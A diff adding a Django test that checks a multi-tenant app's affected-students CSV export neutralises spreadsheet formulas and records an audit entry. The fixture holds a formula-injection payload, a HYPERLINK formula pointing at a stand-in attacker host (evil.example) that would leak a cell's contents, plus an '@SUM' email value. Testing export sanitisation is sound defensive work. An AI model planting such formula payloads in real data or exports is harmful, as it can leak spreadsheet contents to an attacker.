@@ -139,6 +139,33 @@ def test_support_page_shows_clocks_and_checklist(staff_client, data):
 
 
 @pytest.mark.django_db
+def test_affected_students_csv_neutralises_formulas_and_is_audited(tenants, data):
+    from candidates.models import AuditEntry, Candidate
+
+    acme = tenants["acme"]
+    with schema_context(acme.schema):
+        attacker = Candidate.objects.create(
+            family_name='=HYPERLINK("http://evil.example/"&A1)', given_name="太郎", email="@SUM(1+1)@x.jp"
+        )
+        plain = Candidate.objects.create(
+            family_name="山田", given_name="花子", email="hanako@student.example.jp"
+        )
+        before = AuditEntry.objects.count()
+    affected_students_add(data_incident=data, tenant=acme.tenant, candidate_ids=[attacker.pk, plain.pk])
+    exported = tenant_client(acme).get(f"/status/data/{data.incident_id}/export.csv")
+    rows = {row["学生ID"]: row for row in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
+    # The candidate export's rule (candidates.textnorm.neutralise_formula): a quote before a formula.
+    assert rows[str(attacker.pk)]["氏名"].startswith("'=HYPERLINK(")
+    assert rows[str(attacker.pk)]["メールアドレス"] == "'@SUM(1+1)@x.jp"
+    assert rows[str(plain.pk)]["氏名"] == "山田 花子"
+    with schema_context(acme.schema):
+        entry = AuditEntry.objects.order_by("-pk").first()
+        assert AuditEntry.objects.count() == before + 1
+    assert entry.action == "export" and entry.actor == acme.admin_email
+    assert entry.student_count == 2 and sorted(entry.candidate_ids) == sorted([attacker.pk, plain.pk])
+
+
+@pytest.mark.django_db
 def test_company_admin_exports_students_and_sends_the_notice(
     tenants, data, eager_celery, django_capture_on_commit_callbacks, mailoutbox
 ):
